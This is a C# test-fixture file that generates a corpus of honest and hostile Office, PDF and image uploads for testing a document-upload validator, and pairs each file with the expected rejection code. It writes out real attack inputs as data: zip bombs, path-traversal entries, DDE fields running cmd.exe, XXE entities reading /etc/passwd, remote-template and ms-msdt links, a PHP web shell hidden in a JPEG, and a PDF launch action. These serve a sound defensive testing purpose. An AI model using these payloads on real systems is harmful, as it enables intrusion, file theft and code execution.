using System.Text;

namespace KerjaSama.Domain.Tests.Documents;

/// <summary>A file that somebody may send, and the code with which it is refused; null: it is taken.</summary>
internal sealed record HostileFile(string Name, string? Kode, Func<byte[]> Make);

/// <summary>The corpus of hostile, odd and honest files, made by code so that nothing dangerous lies in the repository.</summary>
internal static class HostileFiles
{
    /// <summary>Bombs of the corpus unpack to little more, so that making them costs little.</summary>
    public const long UnpackedLimit = 20 * 1024 * 1024;

    private const string Word = OfficeFiles.WordMain;
    private const string Excel = OfficeFiles.ExcelMain;
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[512]];

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        .. Honest(), .. Kinds(), .. Structure(), .. Macros(), .. Outside(), .. Links(), .. Fields(), .. Objects(), .. Declarations(), .. Layers(), .. Pictures(), .. ActivePdf(),
    ];

    public static byte[] Bytes(string name) => All.Single(f => f.Name == name).Make();

    private static IEnumerable<HostileFile> Honest() =>
    [
        new("surat.pdf", null, () => PictureFiles.Pdf),
        new("pindaian-dengan-kepala-mesin.pdf", null, () => [.. "\u001b%-12345X@PJL ENTER LANGUAGE=PDF\n"u8, .. PictureFiles.Pdf]),
        new("foto.jpg", null, () => PictureFiles.Jpeg(4000, 3000)),
        new("foto-ponsel-200mp.jpg", null, () => PictureFiles.Jpeg(16320, 12240)),
        new("foto-dengan-ekor.jpg", null, () => [.. PictureFiles.Jpeg(), .. "SEFT motion photo"u8]),
        new("foto.png", null, () => PictureFiles.Png(1000, 1000)),
        new("foto.heic", null, () => PictureFiles.Heic(4032, 3024)),
        new("berkata-lain.docx", null, () => PictureFiles.Pdf),
        new("biasa.docx", null, () => Docx()),
        new("biasa.xlsx", null, () => Package(Excel, ("xl/worksheets/sheet1.xml", "<s><f>IF(A1=\"a|b\",'x|y'!B2,SUM(C1:C9))</f></s>"))),
        new("tautan-biasa.docx", null, () => Docx(Rels("hyperlink", "https://contoh.go.id/a?b=c", "External"))),
        new("tautan-tetangga.docx", null, () => Docx(Rels("hyperlink", "Lampiran%201.pdf", "External"))),
        new("ruas-biasa.docx", null, () => Docx(("word/document.xml", Doc(Field("PAGE", " \\* MERGEFORMAT") + Field("HYPERLINK ", "\"https://contoh.go.id\" \\o \"file:lihat\"") + Field("TOC \\o ", "\"1-3\""))))),
        new("grafik.docx", null, () => Docx(("word/embeddings/Lembar_Kerja.xlsx", Latin(Package(Excel, ("xl/workbook.xml", "<w/>")))))),
        new("gambar-vml-lama.docx", null, () => Docx(("word/vmlDrawing1.vml", "<xml><v:shape><br></v:shape></xml>"))),
        new("zip64.docx", null, () => new RawZip().Add("[Content_Types].xml", ContentTypes(Word, "")).Add("word/document.xml", "<a/>").Bytes(wide: true)),
    ];

    private static IEnumerable<HostileFile> Kinds() =>
    [
        new("kosong.pdf", "unggahan.kosong", () => []),
        new("program.pdf", "unggahan.jenis-tidak-dikenal", () => [.. "MZ"u8, .. new byte[600]]),
        new("halaman.pdf", "unggahan.jenis-tidak-dikenal", () => "<!doctype html><script>alert(1)</script>"u8.ToArray()),
        new("gambar.svg", "unggahan.jenis-tidak-dikenal", () => "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"u8.ToArray()),
        new("arsip.docx", "unggahan.jenis-tidak-dikenal", () => new RawZip().Add("a.txt", "a").Bytes()),
        new("templat.dotx", "unggahan.jenis-tidak-dikenal", () => Package("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")),
        new("lama.doc", "unggahan.format-lama", () => Ole),
        new("bersandi.docx", "unggahan.terenkripsi", () => [.. Ole, .. Encoding.Unicode.GetBytes("EncryptedPackage")]),
        new("terpotong.pdf", "unggahan.rusak", () => PictureFiles.Pdf[..40]),
        new("terpotong.docx", "unggahan.rusak", () => Docx()[..120]),
        new("terpotong-di-ujung.docx", "unggahan.rusak", () => Docx()[..^3]),
        new("bagian-rusak.docx", "unggahan.rusak", () => Damaged()),
    ];

    private static IEnumerable<HostileFile> Structure() =>
    [
        new("bom.docx", "unggahan.terlalu-besar-terurai", () => Zip(z => z.Add("word/a.xml", new byte[21 * 1024 * 1024]))),
        new("bom-bersarang.docx", "unggahan.terlalu-besar-terurai", () => Zip(z => z.Add("word/embeddings/a.xlsx", Zip(i => i.Add("xl/a.bin", new byte[11 * 1024 * 1024]), Excel)).Add("word/embeddings/b.xlsx", Zip(i => i.Add("xl/a.bin", new byte[11 * 1024 * 1024]), Excel)))),
        new("bom-yang-berbohong.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", new byte[5_000_000], statedSize: 10))),
        new("terlalu-banyak-bagian.docx", "unggahan.terlalu-besar-terurai", () => Zip(z => Enumerable.Range(0, 10_001).ToList().ForEach(n => z.Add($"a{n}", [])))),
        new("jumlah-bohong.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", "<a/>"), count: 1)),
        new("saling-menindih.docx", "unggahan.susunan-tidak-wajar", () => Zip(z =>
        {
            var inner = new RawZip().Add("word/b.xml", "<b/>").Entries;
            z.Add("word/a.bin", inner, stored: true).Add("word/b.xml", "<b/>"u8.ToArray(), at: z.Position - inner.Length);
        })),
        new("tersembunyi.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", "<a/>").Gap([.. "PK\u0003\u0004"u8, .. new byte[60]]).Add("word/b.xml", "<b/>"))),
        new("berawalan.docx", "unggahan.susunan-tidak-wajar", () => new RawZip().Gap([.. "PK\u0003\u0004"u8, .. new byte[40]]).Add("[Content_Types].xml", ContentTypes(Word, "")).Bytes()),
        new("berekor.docx", "unggahan.rusak", () => [.. Docx(), .. "ekor"u8]),
        new("bernama-dua.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", "<a/>"u8.ToArray(), ownName: "word/b.xml"))),
        new("naik-folder.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("../../etc/cron.d/x", "x"))),
        new("dari-akar.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("/etc/passwd", "x"))),
        new("garis-miring-terbalik.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("..\\..\\windows\\x", "x"))),
        new("huruf-kembar.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", "<a/>").Add("WORD/A.xml", "<b/>"))),
        new("pintasan.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", "/etc/passwd"u8.ToArray(), mode: 0xA1FF))),
        new("bagian-bersandi.docx", "unggahan.susunan-tidak-wajar", () => Zip(z => z.Add("word/a.xml", "<a/>"u8.ToArray(), flags: 1))),
        new("arsip-di-dalam.docx", "unggahan.paket-bersarang", () => Docx(("word/media/a.bin", Latin(new RawZip().Add("x.exe", "x").Bytes())))),
        new("bersarang-dua.docx", "unggahan.paket-bersarang", () => Docx(("word/embeddings/a.xlsx", Latin(Package(Excel, ("xl/embeddings/b.docx", Latin(Docx()))))))),
        new("nama-tanpa-akhir.docx", "unggahan.susunan-tidak-wajar", () => Docx(("word/document.xml", "<a>" + string.Concat(Enumerable.Range(0, 60_000).Select(n => $"<n{n}/>")) + "</a>"))),
        new("atribut-tanpa-akhir.docx", "unggahan.susunan-tidak-wajar", () => Docx(("word/document.xml", "<a b=\"" + new string('x', 17 * 1024 * 1024) + "\"/>"))),
    ];

    private static IEnumerable<HostileFile> Macros() =>
    [
        new("makro.docx", "unggahan.makro", () => Docx(("word/vbaProject.bin", "x"))),
        new("makro-nama-lain.docx", "unggahan.makro", () => Docx(Rels("vbaProject", "gambar.bin", null, "http://schemas.microsoft.com/office/2006/relationships/"))),
        new("makro.docm", "unggahan.makro", () => Package("application/vnd.ms-word.document.macroEnabled.main+xml")),
        new("makro.dotm", "unggahan.makro", () => Package("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
        new("makro.xlsm", "unggahan.makro", () => Package("application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        new("makro.xlsb", "unggahan.makro", () => Package("application/vnd.ms-excel.sheet.binary.macroEnabled.main")),
        new("jenis-makro-tersembunyi.docx", "unggahan.makro", () => Types(Word, "<Default Extension=\"png\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")),
        new("makro-excel-4.xlsx", "unggahan.makro", () => Types(Excel, "<Override PartName=\"/xl/a.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>")),
        new("makro-excel-4-rels.xlsx", "unggahan.makro", () => Package(Excel, Rels("xlMacrosheet", "a.xml", null, "http://schemas.microsoft.com/office/2006/relationships/"))),
        new("nama-makro.xlsx", "unggahan.makro", () => Package(Excel, ("xl/workbook.xml", "<workbook><definedName name=\"_xlnm.Auto_Open\" xlm=\"1\">A!$A$1</definedName></workbook>"))),
        new("makro-dalam-grafik.docx", "unggahan.makro", () => Docx(("word/embeddings/a.xlsx", Latin(Package("application/vnd.ms-excel.sheet.macroEnabled.main+xml"))))),
        new("pita.docx", "unggahan.makro", () => Docx(Rels("extensibility", "customUI/customUI.xml", null, "http://schemas.microsoft.com/office/2006/relationships/ui/"))),
    ];

    private static IEnumerable<HostileFile> Outside() =>
    [
        new("templat-luar.docx", "unggahan.tautan-luar", () => Docx(Rels("attachedTemplate", "http://jahat.invalid/x.dotm", "External"))),
        new("templat-jaringan.docx", "unggahan.tautan-luar", () => Docx(Rels("attachedTemplate", "file://server/share/x.dotm", "External"))),
        new("gambar-luar.docx", "unggahan.tautan-luar", () => Docx(Rels("image", "https://jahat.invalid/x.png", "External"))),
        new("gambar-luar-huruf-kecil.docx", "unggahan.tautan-luar", () => Docx(Rels("image", "https://jahat.invalid/x.png", "external"))),
        new("bingkai-luar.docx", "unggahan.tautan-luar", () => Docx(Rels("frame", "https://jahat.invalid/x", "External"))),
        new("anak-dokumen.docx", "unggahan.tautan-luar", () => Docx(Rels("subDocument", "\\\\server\\share\\x.docx", "External"))),
        new("alamat-tanpa-tanda.docx", "unggahan.tautan-luar", () => Docx(Rels("image", "file:///c:/x.png", null))),
        new("lembar-luar.xlsx", "unggahan.tautan-luar", () => Package(Excel, Rels("externalLinkPath", "file:///c:/x.xlsx", "External"))),
        new("koneksi.xlsx", "unggahan.tautan-luar", () => Package(Excel, ("xl/connections.xml", "<connections><connection name=\"x\" refreshOnLoad=\"1\"/></connections>"))),
        new("gambar-vml-luar.docx", "unggahan.tautan-luar", () => Docx(("word/document.xml", "<d xmlns:v=\"v\"><v:imagedata src=\"http://jahat.invalid/x.png\"/></d>"))),
        new("gambar-vml-rusak-luar.xlsx", "unggahan.tautan-luar", () => Package(Excel, ("xl/drawings/vmlDrawing1.vml", "<xml><br><v:imagedata src='\\\\server\\x.png'/></xml>"))),
        new("gambar-vml-raksasa.docx", "unggahan.sisipan-asing", () => Docx(("word/vmlDrawing1.vml", "<xml><br>" + string.Concat(Enumerable.Range(0, 700_000).Select(i => $"{i:D7}"))))),
    ];

    private static IEnumerable<HostileFile> Links() =>
        new[] { "javascript:alert(1)", "java\tscript:alert(1)", "vbscript:x", "file:///c:/windows/system32/calc.exe", "\\\\server\\share\\x.exe", "//server/share/x", "ms-msdt:/id x", "data:text/html,x", "C:\\x.exe", "search-ms:query=x" }
            .Select((target, n) => new HostileFile($"tautan-{n}.docx", "unggahan.tautan-berbahaya", () => Docx(Rels("hyperlink", System.Security.SecurityElement.Escape(target), "External"))))
            .Append(new("ruas-tautan.docx", "unggahan.tautan-berbahaya", () => Docx(("word/document.xml", Doc(Field("HYPER", "LINK \"javascript:alert(1)\""))))))
            .Append(new("ruas-tautan-jaringan.docx", "unggahan.tautan-berbahaya", () => Docx(("word/footer1.xml", Doc(Field("HYPERLINK \\t \"_blank\" ", "\"\\\\\\\\server\\\\x.exe\""))))));

    private static IEnumerable<HostileFile> Fields() =>
    [
        new("dde.docx", "unggahan.ruas-aktif", () => Docx(("word/document.xml", Doc(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", "\"/k calc.exe\""))))),
        new("dde-terpecah.docx", "unggahan.ruas-aktif", () => Docx(("word/header1.xml", Doc(Field("D", "DE cmd"))))),
        new("dde-sederhana.docx", "unggahan.ruas-aktif", () => Docx(("word/document.xml", $"<w:document {W}><w:fldSimple w:instr=\" dde cmd x\"/></w:document>"))),
        new("dde-tersusun.docx", "unggahan.ruas-aktif", () => Docx(("word/document.xml", $"<w:document {W}><w:fldChar w:fldCharType=\"begin\"/>{Run("begin", " QUOTE 68 68 69 ", "end")}<w:instrText> cmd</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>"))),
        new("sertakan-gambar.docx", "unggahan.ruas-aktif", () => Docx(("word/document.xml", Doc(Field("INCLUDEPICTURE ", "\"http://jahat.invalid/x.png\" \\d"))))),
        new("sertakan-teks.docx", "unggahan.ruas-aktif", () => Docx(("word/document.xml", Doc(Field("INCLUDETEXT ", "\"\\\\\\\\server\\\\x\""))))),
        new("dde.xlsx", "unggahan.ruas-aktif", () => Package(Excel, ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"))),
        new("rumus-dde.xlsx", "unggahan.ruas-aktif", () => Package(Excel, ("xl/worksheets/sheet1.xml", "<s><c><f>cmd|'/c calc'!A0</f></c></s>"))),
        new("rumus-web.xlsx", "unggahan.ruas-aktif", () => Package(Excel, ("xl/worksheets/sheet1.xml", "<s><f>_xlfn.WEBSERVICE(\"http://jahat.invalid\")</f></s>"))),
    ];

    private static IEnumerable<HostileFile> Objects() =>
    [
        new("ole.docx", "unggahan.objek-tertanam", () => Docx(("word/embeddings/oleObject1.bin", Latin(Ole)))),
        new("ole-sebagai-gambar.docx", "unggahan.objek-tertanam", () => Docx(("word/media/image1.png", Latin(Ole)))),
        new("ole-rels.docx", "unggahan.objek-tertanam", () => Docx(Rels("oleObject", "embeddings/x.bin", null))),
        new("activex.docx", "unggahan.objek-tertanam", () => Types(Word, "<Override PartName=\"/word/a.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>")),
        new("activex-rels.docx", "unggahan.objek-tertanam", () => Docx(Rels("control", "activeX/activeX1.xml", null))),
        new("program-di-dalam.docx", "unggahan.objek-tertanam", () => Docx(("word/media/image1.emf", "MZ program"))),
        new("altchunk.docx", "unggahan.sisipan-asing", () => Docx(Rels("aFChunk", "/word/a.html", null), ("word/a.html", "<html><script src='http://jahat.invalid/x.js'></script></html>"))),
        new("altchunk-mht.docx", "unggahan.sisipan-asing", () => Types(Word, "<Default Extension=\"mht\" ContentType=\"message/rfc822\"/>")),
        new("altchunk-unsur.docx", "unggahan.sisipan-asing", () => Docx(("word/document.xml", $"<w:document {W}><w:altChunk/></w:document>"))),
        new("svg-berskrip.docx", "unggahan.sisipan-asing", () => Docx(("word/media/image1.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>"))),
    ];

    private static IEnumerable<HostileFile> Declarations() =>
        new[] { "word/document.xml", "word/_rels/document.xml.rels", "customXml/item1.xml", "docProps/core.xml", "word/media/image1.svg" }
            .Select(part => new HostileFile($"xxe-{part.Replace('/', '-')}.docx", "unggahan.dtd", () => Docx((part, "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"))))
            .Append(new("tawa-sejuta.docx", "unggahan.dtd", () => Docx(("word/document.xml", "<!DOCTYPE a [<!ENTITY b \"bb\"><!ENTITY c \"&b;&b;&b;\">]><a>&c;</a>"))))
            .Append(new("xxe-utf16.docx", "unggahan.dtd", () => Zip(z => z.Add("word/document.xml", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<?xml version=\"1.0\" encoding=\"utf-16\"?><!DOCTYPE a SYSTEM \"http://jahat.invalid/x.dtd\"><a/>")).ToArray()))))
            .Append(new("xxe-jenis.docx", "unggahan.dtd", () => new RawZip().Add("[Content_Types].xml", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Types>&x;</Types>").Bytes()));

    private static IEnumerable<HostileFile> Layers() =>
    [
        new("pdf-zip.pdf", "unggahan.berlapis", () => [.. PictureFiles.Pdf, .. new RawZip().Add("x.exe", "x").Bytes(), .. "\n%%EOF\n"u8]),
        new("pdf-html.pdf", "unggahan.berlapis", () => [.. "%PDF-1.4\n%<script>alert(1)</script>\n"u8, .. PictureFiles.Pdf]),
        new("html-pdf.pdf", "unggahan.berlapis", () => [.. "<html><!--"u8, .. PictureFiles.Pdf]),
        new("pdf-ekor-html.pdf", "unggahan.berlapis", () => [.. PictureFiles.Pdf, .. "<html><body onload=x></html>"u8]),
        new("gif-pdf.pdf", "unggahan.berlapis", () => [.. "GIF89a"u8, .. PictureFiles.Pdf]),
        new("jpg-html.jpg", "unggahan.berlapis", () => PictureFiles.Jpeg(comment: "<script>alert(1)</script>"u8.ToArray())),
        new("jpg-php.jpg", "unggahan.berlapis", () => PictureFiles.Jpeg(comment: "<?php system($_GET[0]); ?>"u8.ToArray())),
        new("jpg-zip.jpg", "unggahan.berlapis", () => [.. PictureFiles.Jpeg(), .. new RawZip().Add("x.exe", "x").Bytes()]),
        new("png-html.png", "unggahan.berlapis", () => [.. PictureFiles.Png(), .. "<svg onload=alert(1)>"u8]),
    ];

    private static IEnumerable<HostileFile> ActivePdf() =>
    [
        new("peluncur.pdf", "unggahan.pdf-berbahaya", () => PictureFiles.PdfWith("/OpenAction<</S/Launch/F(cmd.exe)>>")),
        new("berskrip.pdf", null, () => PictureFiles.PdfWith("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")),
        new("berlampiran.pdf", null, () => PictureFiles.PdfWith("/Names<</EmbeddedFiles<</Names[(x)<</EF<</F 9 0 R>>>>]>>>>")),
    ];

    private static IEnumerable<HostileFile> Pictures() =>
    [
        new("raksasa.png", "unggahan.gambar-tidak-wajar", () => PictureFiles.Png(100_000, 100_000)),
        new("pita-panjang.png", "unggahan.gambar-tidak-wajar", () => PictureFiles.Png(2_000_000, 1)),
        new("raksasa.jpg", "unggahan.gambar-tidak-wajar", () => PictureFiles.Jpeg(65_000, 65_000)),
        new("raksasa.heic", "unggahan.gambar-tidak-wajar", () => PictureFiles.Heic(60_000, 60_000)),
        new("raksasa-di-dalam.docx", "unggahan.gambar-tidak-wajar", () => Docx(("word/media/image1.png", Latin(PictureFiles.Png(100_000, 100_000))))),
        new("nol.png", "unggahan.rusak", () => PictureFiles.Png(0, 10)),
        new("terpotong.png", "unggahan.rusak", () => PictureFiles.Png()[..^14]),
        new("terpotong.jpg", "unggahan.rusak", () => PictureFiles.Jpeg()[..^2]),
        new("terpotong.heic", "unggahan.rusak", () => PictureFiles.Heic()[..^2]),
    ];

    private static byte[] Docx(params (string Path, string Text)[] parts) => Package(Word, parts);

    private static byte[] Package(string main, params (string Path, string Text)[] parts) => Zip(z =>
    {
        foreach (var (path, text) in parts)
        {
            // a text of Latin-1 carries bytes, one a character
            z.Add(path, text.All(c => c <= 0xFF) ? Encoding.Latin1.GetBytes(text) : Encoding.UTF8.GetBytes(text));
        }
    }, main);

    private static byte[] Types(string main, string more) => new RawZip().Add("[Content_Types].xml", ContentTypes(main, more)).Bytes();

    private static byte[] Zip(Action<RawZip> fill, string main = Word, int? count = null)
    {
        var zip = new RawZip().Add("[Content_Types].xml", ContentTypes(main, ""));
        fill(zip);
        return zip.Bytes(count);
    }

    private static byte[] Damaged()
    {
        var bytes = Zip(z => z.Add("word/document.xml", "<a>isi</a>"u8.ToArray(), stored: true));
        bytes[bytes.AsSpan().IndexOf("isi"u8)] ^= 1;
        return bytes;
    }

    private static string ContentTypes(string main, string more) =>
        $"""<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="{main}"/>{more}</Types>""";

    private static (string, string) Rels(string type, string target, string? mode, string space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/") =>
        ("word/_rels/document.xml.rels", $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{space}{type}" Target="{target}"{(mode is null ? "" : $" TargetMode=\"{mode}\"")}/></Relationships>""");

    /// <summary>A field whose instruction is split over two runs.</summary>
    private static string Field(string first, string second) => $"{Run("begin", first, null)}<w:instrText>{System.Security.SecurityElement.Escape(second)}</w:instrText><w:fldChar w:fldCharType=\"end\"/>";

    private static string Doc(string content) => $"<w:document {W}>{content}</w:document>";

    private static string Run(string begin, string text, string? end) =>
        $"<w:fldChar w:fldCharType=\"{begin}\"/><w:instrText>{System.Security.SecurityElement.Escape(text)}</w:instrText>{(end is null ? "" : $"<w:fldChar w:fldCharType=\"{end}\"/>")}";

    private static string Latin(byte[] bytes) => Encoding.Latin1.GetString(bytes);
}
